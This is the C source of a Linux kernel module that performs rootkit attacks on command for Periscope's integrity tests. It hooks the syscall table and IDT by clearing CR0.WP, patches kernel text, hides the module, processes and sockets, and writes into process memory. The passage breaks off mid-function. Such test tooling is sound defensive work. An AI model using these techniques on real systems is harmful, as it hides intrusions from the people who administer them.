// SPDX-License-Identifier: GPL-2.0
/*
 * periscope_tamper: rootkit-style attacks ON COMMAND, for Periscope's integrity tests.
 *
 * Loaded only inside Periscope's QEMU test guest (Debian's 6.1 kernel), never on a host. It does nothing at load
 * time except create /proc/periscope_tamper. Writing one command line to that file performs one attack; reading the
 * file returns the report of the last command (the same line is also printed with printk). Every report names the
 * exact addresses involved, so tests can compare them with what Periscope reads from outside.
 *
 *   syscall NR                     sys_call_table[NR] := address of tamper_fake_syscall (a function in this module)
 *   idt VECTOR                     (i386 only) the IDT gate of VECTOR := tamper_idt_stub, a function in this module that
 *                                  jumps on to the gate's old handler (so the vector still works if it fires)
 *   patch SYMBOL OFFSET [HEX]      write HEX (default 9090909090) into core kernel text at SYMBOL+OFFSET
 *   ftrace SYMBOL                  register an ftrace_ops (counting callback) filtered on SYMBOL
 *   hide                           unlink this module from the `modules` list and delete its /sys/module kobject
 *   unhide                         link this module back at the head of `modules` (its kobject stays deleted)
 *   rename NAME                    set this module's name (struct module.name) to NAME, e.g. that of another loaded
 *                                  module; `rename periscope_tamper` undoes it
 *   hidepid PID                    unlink a process (thread-group leader) from the init_task.tasks list
 *   usercode PID ADDR              change one byte of a process's memory at ADDR (int3), COW like a debugger
 *   flaghide PID                   set task->flags bit 0x40000000, which Linux 6.1 does not define, on a process
 *                                  (its thread-group leader): the mark rootkits use to filter it out of /proc
 *   hidesock PORT                  unhash the IPv4 TCP listener on PORT from tcp_hashinfo's listening hash: gone from
 *                                  /proc/net/tcp and ss, still accepting connections already queued (Periscope's
 *                                  sockets cross-view finds it through the owner's file table)
 *   hidebpf ID                     remove eBPF program ID from prog_idr (idr_remove under prog_idr_lock): gone from
 *                                  bpftool and every BPF_PROG_GET_NEXT_ID walk, still attached and running (Periscope's
 *                                  bpf cross-view finds it where it is attached); a reference is held until restore
 *   bpftramp SYMBOL                rewrite one call in the live bpf trampoline image that SYMBOL's ftrace site calls (a
 *                                  program attached alone on SYMBOL, e.g. bpfload fentry): the call to the kernel's
 *                                  __bpf_prog_exit* (or enter*) helper now goes to tamper_tramp_helper in this module,
 *                                  which counts and calls the real helper; the program stays listed in prog_idr
 *   restore                        undo syscall, idt, patch, ftrace, hidepid, usercode, hidesock, hidebpf and bpftramp
 *                                  (not hide); restore bpftramp BEFORE the program is detached (its image is freed then)
 *   status                         what is currently in effect, and the ftrace hit count
 *
 * One attack of each kind may be in effect at a time; a second one is refused until `restore`.
 *
 * How read-only kernel memory is written (syscall, patch): with interrupts off on this CPU, CR0.WP is cleared by a
 * direct `mov %cr0` (the kernel's write_cr0() pins WP back on since 5.3, so it cannot be used), the bytes are
 * stored through the kernel's own mapping, and CR0 is restored. Refused if CR4.CET is set (clearing WP would #GP);
 * TCG does not offer CET, and Debian's 6.1 config has no kernel IBT.
 *
 * Facts of this kernel that shape the attacks:
 *  - 6.1.y stable (>= 6.1.85) dispatches x86-64 system calls through x64_sys_call(), a switch statement, not through
 *    sys_call_table (BHI mitigation backport). Overwriting a slot is therefore a data-only change: detectable in the
 *    table, harmless to the guest, and tamper_fake_syscall is never actually called.
 *  - kallsyms_lookup_name is not exported since 5.7; its address is taken from a kprobe registered on it.
 *  - Debian's i386 kernels (686, 686-pae) have no CONFIG_KALLSYMS_ALL: kallsyms_lookup_name finds no data symbol
 *    (sys_call_table, module_mutex, ...). sys_call_table is then found in the read-only data after _etext by its first
 *    five entries (the text symbols of syscalls 0-4); the other data-symbol commands report "not found" there.
 *    i386 dispatches through ia32_sys_call() (a switch) since the same backport, so a table slot is data only too.
 *  - CONFIG_DEBUG_LIST and CONFIG_BUG_ON_DATA_CORRUPTION are set: any later list_del on a node we unlinked must find
 *    it self-consistent, or the kernel BUGs. hide and hidepid therefore wait for an RCU grace period after unlinking
 *    and then point the node at itself (INIT_LIST_HEAD), so readers that were on it have left and a later
 *    list_del_rcu by the kernel is harmless.
 *
 * Safe targets (used by the tests):
 *  - patch __x64_sys_sysfs 0: replaces the 5-byte NOP at the function's ftrace site (0f 1f 44 00 00, there is no
 *    ENDBR on this kernel) with five 1-byte NOPs: semantically a no-op, and sysfs(2) is obsolete and never called.
 *    Do not patch a site that ftrace later enables (ftrace checks the old bytes and disables itself on a mismatch),
 *    and do not patch x64_sys_call or anything else on a hot path.
 *  - ftrace __x64_sys_newuname: the callback only counts calls.
 *
 * Limits, stated rather than hidden:
 *  - hide is undone only by `unhide`, which relinks the module but cannot bring back /sys/module/periscope_tamper.
 *  - hidepid: if the hidden process is reaped within the RCU grace period that follows the unlink, or execs from a
 *    non-leader thread while hidden, the kernel's list checks fire. Hide a long-running single-threaded process.
 *    `restore` links it back (at the tail of the task list).
 *  - usercode restores the old byte, but the process keeps its private copy of the page.
 */
#include <linux/module.h>
#include <linux/kernel.h>
#include <linux/kprobes.h>
#include <linux/bpf.h>
#include <linux/idr.h>
#include <linux/proc_fs.h>
#include <linux/uaccess.h>
#include <linux/mutex.h>
#include <linux/rculist.h>
#include <linux/sched.h>
#include <linux/sched/signal.h>
#include <linux/sched/task.h>
#include <linux/mm.h>
#include <linux/ftrace.h>
#include <linux/string.h>
#include <linux/kobject.h>
#if __has_include(<linux/hex.h>)
#include <linux/hex.h>   /* hex2bin: out of kernel.h in 7.x */
#endif
#include <asm/special_insns.h>
#include <asm/desc.h>
#include <asm/processor-flags.h>
#include <asm/unistd.h>
/* get_unaligned/put_unaligned moved from asm/ to linux/ in 6.12 (the kernel matrix's 6.12 and 7.x kernels). */
#include <linux/version.h>
#if LINUX_VERSION_CODE >= KERNEL_VERSION(6, 12, 0)
#include <linux/unaligned.h>
#else
#include <asm/unaligned.h>
#endif
/* The module's code: core_layout until 6.3, mem[MOD_TEXT] (text only) since 6.4. */
#if LINUX_VERSION_CODE >= KERNEL_VERSION(6, 4, 0)
#define MODULE_CORE_BASE(m) ((m)->mem[MOD_TEXT].base)
#define MODULE_CORE_SIZE(m) ((m)->mem[MOD_TEXT].size)
#else
#define MODULE_CORE_BASE(m) ((m)->core_layout.base)
#define MODULE_CORE_SIZE(m) ((m)->core_layout.size)
#endif
#include <net/inet_hashtables.h>
#include <net/tcp.h>

#define TAMPER_NAME "periscope_tamper"
#define MAX_PATCH 16

typedef unsigned long (*kallsyms_lookup_name_t)(const char *name);
static kallsyms_lookup_name_t lookup;

static DEFINE_MUTEX(tamper_lock);   /* serialises commands and the result buffer */
static char result[1024];
static size_t result_len;

/* What is in effect, so that restore can undo it. */
static struct {
	bool active;
	unsigned int nr;
	unsigned long *slot;
	unsigned long old, new;
} sc;

static struct {
	bool active;
	char sym[KSYM_NAME_LEN];
	unsigned long off;
	u8 *addr;
	u8 old[MAX_PATCH], new[MAX_PATCH];
	size_t len;
} tp;

static struct {
	bool active;
	char sym[KSYM_NAME_LEN];
	unsigned long func, site;
} ft;

static struct {
	bool active;
	struct task_struct *task;   /* referenced while hidden */
	pid_t pid;
} hp;

static struct {
	bool active;
	struct task_struct *task;   /* referenced while changed */
	pid_t pid;
	unsigned long addr;
	u8 old, new;
} uc;

static bool hidden;
static bool kobject_deleted;   /* by the first hide: a second kobject_del would drop the parent's reference twice */
static atomic64_t ftrace_hits = ATOMIC64_INIT(0);

/* Appends one line to the result that reading /proc/periscope_tamper returns, and printk's it. */
static __printf(1, 0) void vreport(const char *fmt, va_list ap)
{
	size_t start = result_len;

	result_len += vscnprintf(result + result_len, sizeof(result) - result_len, fmt, ap);
	if (result_len < sizeof(result) - 1)
		result[result_len++] = '\n';
	result[result_len] = '\0';
	pr_info(TAMPER_NAME ": %.*s", (int)(result_len - start), result + start);
}

static __printf(1, 2) void report(const char *fmt, ...)
{
	va_list ap;

	va_start(ap, fmt);
	vreport(fmt, ap);
	va_end(ap);
}

/* Reports an "error ..." line and returns err (a negative errno), which the write then returns. */
static __printf(2, 3) int fail(int err, const char *fmt, ...)
{
	va_list ap;

	va_start(ap, fmt);
	vreport(fmt, ap);
	va_end(ap);
	return err;
}

/* kallsyms_lookup_name is not exported: a kprobe on it tells its address. */
static int find_lookup(void)
{
	struct kprobe kp = { .symbol_name = "kallsyms_lookup_name" };
	int ret = register_kprobe(&kp);

	if (ret < 0)
		return ret;
	lookup = (kallsyms_lookup_name_t)kp.addr;
	unregister_kprobe(&kp);
	return lookup ? 0 : -ENOENT;
}

static inline void raw_write_cr0(unsigned long v)
{
	asm volatile("mov %0, %%cr0" : : "r"(v) : "memory");
}

/*
 * Writes len bytes to read-only kernel memory (rodata or text) through its kernel mapping, with CR0.WP cleared on
 * this CPU for the duration of the copy. Interrupts are off so nothing else runs here with WP clear.
 */
static int write_ro(void *dst, const void *src, size_t len)
{
	unsigned long flags, cr0;

	if (native_read_cr4() & X86_CR4_CET)
		return -EOPNOTSUPP;   /* WP may not be cleared while CET is on */
	local_irq_save(flags);
	cr0 = native_read_cr0();
	raw_write_cr0(cr0 & ~X86_CR0_WP);
	/* One aligned word (a table slot) is written by one store in this module, as a rootkit's `table[nr] = fn` is:
	 * a write watchpoint then sees the writing instruction here, not in the kernel's memcpy (rep movsb). */
	if (len == sizeof(unsigned long) && IS_ALIGNED((unsigned long)dst, sizeof(unsigned long)))
		WRITE_ONCE(*(unsigned long *)dst, *(const unsigned long *)src);
	else
		memcpy(dst, src, len);
	raw_write_cr0(cr0);     /* mov to CR0 is serialising: this CPU fetches the new bytes from here on */
	local_irq_restore(flags);
	return 0;
}

/*
 * sys_call_table when kallsyms has no data symbols: the first word-aligned place in the PAGE_SIZE-aligned data after
 * _etext whose first five words are the syscall functions 0-4 (restart_syscall, exit, fork, read, write) by their
 * kallsyms text symbols. Reads stop at the first unreadable page or after 64 MiB.
 */
static unsigned long *find_syscall_table(void)
{
#ifdef CONFIG_X86_32
	static const char *const first[] = { "__ia32_sys_restart_syscall", "__ia32_sys_exit", "__ia32_sys_fork",
					     "__ia32_sys_read", "__ia32_sys_write" };
#else
	static const char *const first[] = { "__x64_sys_read", "__x64_sys_write", "__x64_sys_open",
					     "__x64_sys_close", "__x64_sys_newstat" };
#endif
	unsigned long want[ARRAY_SIZE(first)], start, va, word;
	unsigned long *table = (unsigned long *)lookup("sys_call_table");
	size_t i;

	if (table)
		return table;
	for (i = 0; i < ARRAY_SIZE(first); i++)
		if (!(want[i] = lookup(first[i])))
			return NULL;
	start = PAGE_ALIGN(lookup("_etext"));
	if (start == 0)
		return NULL;
	for (va = start; va < start + (64UL << 20); va += sizeof(unsigned long)) {
		if (copy_from_kernel_nofault(&word, (void *)va, sizeof(word)))
			return NULL;
		if (word != want[0])
			continue;
		for (i = 1; i < ARRAY_SIZE(first); i++)
			if (copy_from_kernel_nofault(&word, (void *)(va + i * sizeof(word)), sizeof(word)) || word != want[i])
				break;
		if (i == ARRAY_SIZE(first))
			return (unsigned long *)va;
	}
	return NULL;
}

/* The value put into sys_call_table. Never called on this kernel (dispatch goes through x64_sys_call). */
static long tamper_fake_syscall(const struct pt_regs *regs)
{
	return -ENOSYS;
}

static int cmd_syscall(char *arg)
{
	unsigned long *table;
	unsigned int nr;
	unsigned long fake = (unsigned long)tamper_fake_syscall;
	int ret;

	if (!arg || kstrtouint(arg, 0, &nr))
		return fail(-EINVAL, "error syscall: usage: syscall NR");
	if (nr >= NR_syscalls)
		return fail(-EINVAL, "error syscall: %u is not below NR_syscalls (%d)", nr, NR_syscalls);
	if (sc.active)
		return fail(-EBUSY, "error syscall: slot %u already replaced; restore first", sc.nr);
	table = find_syscall_table();
	if (!table)
		return fail(-ENOENT, "error syscall: sys_call_table not found");
	sc.slot = &table[nr];
	sc.old = READ_ONCE(*sc.slot);
	sc.new = fake;
	ret = write_ro(sc.slot, &sc.new, sizeof(sc.new));
	if (ret)
		return fail(ret, "error syscall: CR4.CET is set, cannot clear CR0.WP");
	sc.nr = nr;
	sc.active = true;
	report("syscall %u slot=0x%lx old=0x%lx new=0x%lx", nr, (unsigned long)sc.slot, sc.old, sc.new);
	return 0;
}

#ifdef CONFIG_X86_32
/*
 * The handler an `idt` hook puts into a gate: an indirect jump to the gate's old handler, so the vector behaves as
 * before if it ever fires (nothing on the stack or in a register changes). Not a C function: an exception handler
 * must not build a frame. Tests hook vector 9 (coprocessor segment overrun), which no CPU since the 486 raises.
 */
unsigned long tamper_idt_old;
void tamper_idt_stub(void);
asm(".pushsection .text, \"ax\"\n"
    ".globl tamper_idt_stub\n"
    ".type tamper_idt_stub, @function\n"
    "tamper_idt_stub:\n"
    "\tjmp *tamper_idt_old\n"
    ".size tamper_idt_stub, .-tamper_idt_stub\n"
    ".popsection\n");

static struct {
	bool active;
	unsigned int vector;
	gate_desc *gate;
	gate_desc old, new;
} ig;

/* The gate is written where the IDTR points (the read-only alias in the cpu entry area since 4.15), with CR0.WP clear. */
static int cmd_idt(char *arg)
{
	struct desc_ptr idtr;
	unsigned int vector;
	unsigned long stub = (unsigned long)tamper_idt_stub;
	int ret;

	if (!arg || kstrtouint(arg, 0, &vector) || vector > 255)
		return fail(-EINVAL, "error idt: usage: idt VECTOR (0-255)");
	if (ig.active)
		return fail(-EBUSY, "error idt: gate %u already replaced; restore first", ig.vector);
	store_idt(&idtr);
	if ((vector + 1) * sizeof(gate_desc) > (unsigned long)idtr.size + 1)
		return fail(-EINVAL, "error idt: vector %u is beyond the IDT limit 0x%x", vector, idtr.size);
	ig.gate = (gate_desc *)idtr.address + vector;
	if (copy_from_kernel_nofault(&ig.old, ig.gate, sizeof(ig.old)))
		return fail(-EFAULT, "error idt: cannot read gate %u at 0x%lx", vector, (unsigned long)ig.gate);
	if (!ig.old.bits.p || (ig.old.bits.type != GATE_INTERRUPT && ig.old.bits.type != GATE_TRAP))
		return fail(-EINVAL, "error idt: gate %u is not a present interrupt or trap gate", vector);
	tamper_idt_old = gate_offset(&ig.old);
	ig.new = ig.old;
	ig.new.offset_low = (u16)stub;
	ig.new.offset_middle = (u16)(stub >> 16);
	ret = write_ro(ig.gate, &ig.new, sizeof(ig.new));
	if (ret)
		return fail(ret, "error idt: CR4.CET is set, cannot clear CR0.WP");
	ig.vector = vector;
	ig.active = true;
	report("idt %u gate=0x%lx old=0x%lx new=0x%lx", vector, (unsigned long)ig.gate, tamper_idt_old, stub);
	return 0;
}

static bool undo_idt(void)
{
	if (!ig.active)
		return false;
	if (!memcmp(ig.gate, &ig.new, sizeof(ig.new)) && !write_ro(ig.gate, &ig.old, sizeof(ig.old)))
		report("restore idt %u gate=0x%lx handler=0x%lx", ig.vector, (unsigned long)ig.gate, gate_offset(&ig.old));
	else
		report("restore idt gate=0x%lx changed by someone else, left alone", (unsigned long)ig.gate);
	ig.active = false;
	return true;
}
#else
static int cmd_idt(char *arg)
{
	return fail(-EOPNOTSUPP, "error idt: only on i386 kernels");
}

static bool undo_idt(void)
{
	return false;
}
#endif

static bool overlaps(unsigned long a, size_t alen, unsigned long b, size_t blen)
{
	return a < b + blen && b < a + alen;
}

static int cmd_patch(char *sym, char *offs, char *hex)
{
	unsigned long base, off, addr, stext, etext;
	u8 bytes[MAX_PATCH];
	size_t len = 5;
	int ret;

	if (!sym || !offs || kstrtoul(offs, 0, &off))
		return fail(-EINVAL, "error patch: usage: patch SYMBOL OFFSET [HEXBYTES]");
	if (hex) {
		len = strlen(hex) / 2;
		if (len == 0 || len > MAX_PATCH || strlen(hex) % 2 || hex2bin(bytes, hex, len))
			return fail(-EINVAL, "error patch: HEXBYTES must be 1 to %d bytes of hex", MAX_PATCH);
	} else {
		memset(bytes, 0x90, len);
	}
	if (tp.active)
		return fail(-EBUSY, "error patch: %s+0x%lx already patched; restore first", tp.sym, tp.off);
	base = lookup(sym);
	if (!base)
		return fail(-ENOENT, "error patch: unknown symbol %s", sym);
	addr = base + off;
	stext = lookup("_stext");
	etext = lookup("_etext");
	if (!stext || !etext || addr < stext || addr + len > etext)
		return fail(-EINVAL, "error patch: 0x%lx is not in core kernel text", addr);
	if (ft.active && overlaps(addr, len, ft.site, 5))
		return fail(-EBUSY, "error patch: 0x%lx overlaps the active ftrace site", addr);
	ret = copy_from_kernel_nofault(tp.old, (void *)addr, len);
	if (ret)
		return fail(ret, "error patch: cannot read 0x%lx", addr);
	memcpy(tp.new, bytes, len);
	ret = write_ro((void *)addr, tp.new, len);
	if (ret)
		return fail(ret, "error patch: CR4.CET is set, cannot clear CR0.WP");
	strscpy(tp.sym, sym, sizeof(tp.sym));
	tp.off = off;
	tp.addr = (u8 *)addr;
	tp.len = len;
	tp.active = true;
	report("patch %s+0x%lx addr=0x%lx old=%*phN new=%*phN", sym, off, addr, (int)len, tp.old, (int)len, tp.new);
	return 0;
}

/* The ftrace callback: counts calls, nothing else. notrace so it cannot trace itself. */
static void notrace tamper_ftrace_cb(unsigned long ip, unsigned long parent_ip, struct ftrace_ops *op,
				     struct ftrace_regs *fregs)
{
	atomic64_inc(&ftrace_hits);
}

static struct ftrace_ops tamper_fops = {
	.func = tamper_ftrace_cb,
	.flags = FTRACE_OPS_FL_RECURSION,
};

static int cmd_ftrace(char *sym)
{
	unsigned long func, site;
	u8 before[5], after[5];
	int ret;

	if (!sym)
		return fail(-EINVAL, "error ftrace: usage: ftrace SYMBOL");
	if (ft.active)
		return fail(-EBUSY, "error ftrace: %s already hooked; restore first", ft.sym);
	func = lookup(sym);
	if (!func)
		return fail(-ENOENT, "error ftrace: unknown symbol %s", sym);
	/* The ftrace site is the function's first instruction (no ENDBR on this kernel); skip one if there is. */
	site = func;
	if (!copy_from_kernel_nofault(before, (void *)func, 4) && !memcmp(before, "\xf3\x0f\x1e\xfa", 4))
		site = func + 4;
	if (tp.active && overlaps(site, 5, (unsigned long)tp.addr, tp.len))
		return fail(-EBUSY, "error ftrace: %s's site is patched by `patch`; restore first", sym);
	if (copy_from_kernel_nofault(before, (void *)site, 5))
		return fail(-EFAULT, "error ftrace: cannot read 0x%lx", site);
	ret = ftrace_set_filter_ip(&tamper_fops, func, 0, 1);
	if (ret)
		return fail(ret, "error ftrace: ftrace_set_filter_ip(%s) failed: %d", sym, ret);
	ret = register_ftrace_function(&tamper_fops);
	if (ret) {
		ftrace_set_filter_ip(&tamper_fops, func, 1, 0);
		return fail(ret, "error ftrace: register_ftrace_function failed: %d", ret);
	}
	atomic64_set(&ftrace_hits, 0);
	strscpy(ft.sym, sym, sizeof(ft.sym));
	ft.func = func;
	ft.site = site;
	ft.active = true;
	if (copy_from_kernel_nofault(after, (void *)site, 5))
		memset(after, 0, sizeof(after));
	if (after[0] == 0xe8)
		report("ftrace %s func=0x%lx site=0x%lx old=%5phN new=%5phN call=0x%lx", sym, func, site, before, after,
		       site + 5 + (long)(s32)get_unaligned_le32(after + 1));
	else
		report("ftrace %s func=0x%lx site=0x%lx old=%5phN new=%5phN", sym, func, site, before, after);
	return 0;
}

static int cmd_hide(void)
{
	struct module *mod = THIS_MODULE;
	struct mutex *module_mutex_p;
	unsigned long prev, next;

	if (hidden)
		return fail(-EBUSY, "error hide: already hidden");
	module_mutex_p = (struct mutex *)lookup("module_mutex");
	if (!module_mutex_p)
		return fail(-ENOENT, "error hide: module_mutex not found");
	mutex_lock(module_mutex_p);
	prev = (unsigned long)mod->list.prev;
	next = (unsigned long)mod->list.next;
	list_del_rcu(&mod->list);
	synchronize_rcu();            /* every reader that was on our node has left it */
	INIT_LIST_HEAD(&mod->list);   /* self-linked: a later list_del passes the DEBUG_LIST checks */
	mutex_unlock(module_mutex_p);
	if (!kobject_deleted)
		kobject_del(&mod->mkobj.kobj); /* /sys/module/periscope_tamper disappears */
	kobject_deleted = true;
	hidden = true;
	report("hide module=0x%lx base=0x%lx size=%u list_prev=0x%lx list_next=0x%lx kobject=deleted",
	       (unsigned long)mod, (unsigned long)MODULE_CORE_BASE(mod), MODULE_CORE_SIZE(mod), prev, next);
	return 0;
}

/* Links the module back where it was loaded: at the head of `modules` (the newest module comes first). */
static int cmd_unhide(void)
{
	struct module *mod = THIS_MODULE;
	struct mutex *module_mutex_p = (struct mutex *)lookup("module_mutex");
	struct list_head *modules_p = (struct list_head *)lookup("modules");

	if (!hidden)
		return fail(-EINVAL, "error unhide: not hidden");
	if (!module_mutex_p || !modules_p)
		return fail(-ENOENT, "error unhide: module_mutex or modules not found");
	mutex_lock(module_mutex_p);
	list_add_rcu(&mod->list, modules_p);
	mutex_unlock(module_mutex_p);
	hidden = false;
	report("unhide module=0x%lx relinked", (unsigned long)mod);
	return 0;
}

/* Renames this module (struct module.name, what /proc/modules and the modules list show). */
static int cmd_rename(char *name)
{
	struct module *mod = THIS_MODULE;
	struct mutex *module_mutex_p = (struct mutex *)lookup("module_mutex");
	char old[MODULE_NAME_LEN];

	if (!name || !*name || strlen(name) >= MODULE_NAME_LEN)
		return fail(-EINVAL, "error rename: usage: rename NAME (1 to %d characters)", (int)MODULE_NAME_LEN - 1);
	if (!module_mutex_p)
		return fail(-ENOENT, "error rename: module_mutex not found");
	mutex_lock(module_mutex_p);
	strscpy(old, mod->name, sizeof(old));
	strscpy(mod->name, name, sizeof(mod->name));
	mutex_unlock(module_mutex_p);
	report("rename module=0x%lx base=0x%lx old=%s new=%s", (unsigned long)mod, (unsigned long)MODULE_CORE_BASE(mod), old, mod->name);
	return 0;
}

static struct task_struct *get_task(pid_t pid)
{
	struct task_struct *t;

	rcu_read_lock();
	t = pid_task(find_vpid(pid), PIDTYPE_PID);
	if (t)
		get_task_struct(t);
	rcu_read_unlock();
	return t;
}

static int cmd_hidepid(char *arg)
{
	rwlock_t *tasklist;
	struct task_struct *t;
	pid_t pid;

	if (!arg || kstrtoint(arg, 0, &pid) || pid <= 1)
		return fail(-EINVAL, "error hidepid: usage: hidepid PID (PID > 1)");
	if (hp.active)
		return fail(-EBUSY, "error hidepid: pid %d already hidden; restore first", hp.pid);
	tasklist = (rwlock_t *)lookup("tasklist_lock");
	if (!tasklist)
		return fail(-ENOENT, "error hidepid: tasklist_lock not found");
	t = get_task(pid);
	if (!t)
		return fail(-ESRCH, "error hidepid: no process %d", pid);

	write_lock_irq(tasklist);
	if (!thread_group_leader(t) || !pid_alive(t) || (t->flags & PF_EXITING) || t->exit_state) {
		write_unlock_irq(tasklist);
		put_task_struct(t);
		return fail(-EINVAL, "error hidepid: %d is not a live process (thread-group leader)", pid);
	}
	list_del_rcu(&t->tasks);
	write_unlock_irq(tasklist);

	synchronize_rcu();            /* RCU walkers of the task list that were on t have moved on */

	write_lock_irq(tasklist);
	INIT_LIST_HEAD(&t->tasks);    /* self-linked: the exit path's list_del_rcu stays harmless */
	write_unlock_irq(tasklist);

	hp.task = t;
	hp.pid = pid;
	hp.active = true;
	report("hidepid %d task=0x%lx comm=%s", pid, (unsigned long)t, t->comm);
	return 0;
}

static int cmd_usercode(char *pids, char *addrs)
{
	struct task_struct *t;
	unsigned long addr;
	u8 old, new;
	pid_t pid;

	if (!pids || !addrs || kstrtoint(pids, 0, &pid) || kstrtoul(addrs, 0, &addr))
		return fail(-EINVAL, "error usercode: usage: usercode PID ADDR");
	if (uc.active)
		return fail(-EBUSY, "error usercode: pid %d already changed; restore first", uc.pid);
	t = get_task(pid);
	if (!t)
		return fail(-ESRCH, "error usercode: no process %d", pid);
	if (access_process_vm(t, addr, &old, 1, FOLL_FORCE) != 1) {
		put_task_struct(t);
		return fail(-EFAULT, "error usercode: cannot read pid %d at 0x%lx", pid, addr);
	}
	new = old == 0xcc ? 0x90 : 0xcc;   /* int3, as a debugger's breakpoint */
	/* FOLL_FORCE|FOLL_WRITE on a private read-only mapping breaks COW: the process gets its own copy of the page. */
	if (access_process_vm(t, addr, &new, 1, FOLL_FORCE | FOLL_WRITE) != 1) {
		put_task_struct(t);
		return fail(-EFAULT, "error usercode: cannot write pid %d at 0x%lx", pid, addr);
	}
	uc.task = t;
	uc.pid = pid;
	uc.addr = addr;
	uc.old = old;
	uc.new = new;
	uc.active = true;
	report("usercode %d addr=0x%lx old=0x%02x new=0x%02x", pid, addr, old, new);
	return 0;
}

/*
 * flaghide PID: the "private flag" hiding technique of published rootkits (Diamorphine's PF_INVISIBLE): mark a process
 * with a task->flags bit and let a getdents/proc hook filter on it. Only the mark is made here (nothing filters /proc);
 * Periscope must report the marked process. 0x40000000 is a hole in both 6.1 and 6.12 (PF__HOLE__40000000), so the
 * kernel neither sets nor tests it. The bit is set atomically (set_bit on the flags word) because the task may be
 * changing its own flags; undone by killing the process, not by `restore`.
 */
#define TAMPER_HIDE_FLAG 0x40000000U

static int cmd_flaghide(char *arg)
{
	struct task_struct *t;
	unsigned int old;
	pid_t pid;

	BUILD_BUG_ON(sizeof(((struct task_struct *)0)->flags) != sizeof(unsigned int));
	if (!arg || kstrtoint(arg, 0, &pid) || pid <= 1)
		return fail(-EINVAL, "error flaghide: usage: flaghide PID (PID > 1)");
	t = get_task(pid);
	if (!t)
		return fail(-ESRCH, "error flaghide: no process %d", pid);
	old = READ_ONCE(t->flags);
	/* flags is an unsigned int: an atomic OR on the 32-bit word, little-endian bit 30. */
	asm volatile("lock orl %1, %0" : "+m"(t->flags) : "ir"(TAMPER_HIDE_FLAG) : "memory");
	report("flaghide %d task=0x%lx comm=%s bit=0x%x old=0x%x new=0x%x", pid, (unsigned long)t, t->comm,
	       TAMPER_HIDE_FLAG, old, READ_ONCE(t->flags));
	put_task_struct(t);
	return 0;
}

/* Attacks appended at the end of this file (issue 13: cross-views); undo_all calls their undo. */
static int cmd_hidesock(char *arg);
static bool undo_hidesock(void);
static int cmd_hidebpf(char *arg);
static bool undo_hidebpf(void);
static int cmd_bpftramp(char *sym);
static bool undo_bpftramp(void);

static void undo_all(void)
{
	bool any = false;

	if (sc.active) {
		if (READ_ONCE(*sc.slot) == sc.new && !write_ro(sc.slot, &sc.old, sizeof(sc.old)))
			report("restore syscall %u slot=0x%lx value=0x%lx", sc.nr, (unsigned long)sc.slot, sc.old);
		else
			report("restore syscall %u slot=0x%lx changed by someone else, left alone", sc.nr,
			       (unsigned long)sc.slot);
		sc.active = false;
		any = true;
	}
	any |= undo_idt();
	if (tp.active) {
		if (!memcmp(tp.addr, tp.new, tp.len) && !write_ro(tp.addr, tp.old, tp.len))
			report("restore patch %s+0x%lx addr=0x%lx bytes=%*phN", tp.sym, tp.off, (unsigned long)tp.addr,
			       (int)tp.len, tp.old);
		else
			report("restore patch addr=0x%lx changed by someone else, left alone", (unsigned long)tp.addr);
		tp.active = false;
		any = true;
	}
	if (ft.active) {
		unregister_ftrace_function(&tamper_fops);
		/* Empty the filter again. Not ftrace_free_filter(): it frees the hashes but leaves the ops pointing at
		 * them, which is only right for an ops that is about to be freed; this one is registered again later. */
		ftrace_set_filter_ip(&tamper_fops, ft.func, 1, 0);
		report("restore ftrace %s site=0x%lx hits=%lld", ft.sym, ft.site, atomic64_read(&ftrace_hits));
		ft.active = false;
		any = true;
	}
	if (hp.active) {
		rwlock_t *tasklist = (rwlock_t *)lookup("tasklist_lock");
		bool relinked = false;

		write_lock_irq(tasklist);
		/* Still hashed (not reaped) and still self-linked as we left it: link it back at the tail. */
		if (pid_alive(hp.task) && hp.task->tasks.next == &hp.task->tasks) {
			list_add_tail_rcu(&hp.task->tasks, &init_task.tasks);
			relinked = true;
		}
		write_unlock_irq(tasklist);
		report("restore hidepid %d task=0x%lx %s", hp.pid, (unsigned long)hp.task,
		       relinked ? "relinked" : "gone (exited)");
		put_task_struct(hp.task);
		hp.active = false;
		any = true;
	}
	if (uc.active) {
		u8 now = 0;
		bool ok = access_process_vm(uc.task, uc.addr, &now, 1, FOLL_FORCE) == 1 && now == uc.new &&
			  access_process_vm(uc.task, uc.addr, &uc.old, 1, FOLL_FORCE | FOLL_WRITE) == 1;

		report("restore usercode %d addr=0x%lx %s", uc.pid, uc.addr, ok ? "restored" : "not restored");
		put_task_struct(uc.task);
		uc.active = false;
		any = true;
	}
	any |= undo_hidesock();
	any |= undo_hidebpf();
	any |= undo_bpftramp();
	if (!any)
		report("restore nothing");
}

static void cmd_status(void)
{
	report("status syscall=%s patch=%s ftrace=%s hidden=%s hidepid=%s usercode=%s ftrace_hits=%lld",
	       sc.active ? "on" : "off", tp.active ? "on" : "off", ft.active ? "on" : "off",
	       hidden ? "yes" : "no", hp.active ? "on" : "off", uc.active ? "on" : "off",
	       atomic64_read(&ftrace_hits));
}

static ssize_t tamper_write(struct file *file, const char __user *ubuf, size_t count, loff_t *ppos)
{
	char buf[256], *p = buf, *verb, *a1, *a2, *a3;
	int ret;

	if (count >= sizeof(buf))
		return -EINVAL;
	if (copy_from_user(buf, ubuf, count))
		return -EFAULT;
	buf[count] = '\0';
	p = strim(buf);
	verb = strsep(&p, " \t");
	a1 = strsep(&p, " \t");
	a2 = strsep(&p, " \t");
	a3 = strsep(&p, " \t");

	mutex_lock(&tamper_lock);
	result_len = 0;
	result[0] = '\0';
	if (!strcmp(verb, "syscall"))
		ret = cmd_syscall(a1);
	else if (!strcmp(verb, "idt"))
		ret = cmd_idt(a1);
	else if (!strcmp(verb, "patch"))
		ret = cmd_patch(a1, a2, a3);
	else if (!strcmp(verb, "ftrace"))
		ret = cmd_ftrace(a1);
	else if (!strcmp(verb, "hide"))
		ret = cmd_hide();
	else if (!strcmp(verb, "unhide"))
		ret = cmd_unhide();
	else if (!strcmp(verb, "rename"))
		ret = cmd_rename(a1);
	else if (!strcmp(verb, "hidepid"))
		ret = cmd_hidepid(a1);
	else if (!strcmp(verb, "usercode"))
		ret = cmd_usercode(a1, a2);
	else if (!strcmp(verb, "flaghide"))
		ret = cmd_flaghide(a1);
	else if (!strcmp(verb, "hidesock"))
		ret = cmd_hidesock(a1);
	else if (!strcmp(verb, "hidebpf"))
		ret = cmd_hidebpf(a1);
	else if (!strcmp(verb, "bpftramp"))
		ret = cmd_bpftramp(a1);
	else if (!strcmp(verb, "restore")) {
		undo_all();
		ret = 0;
	} else if (!strcmp(verb, "status")) {
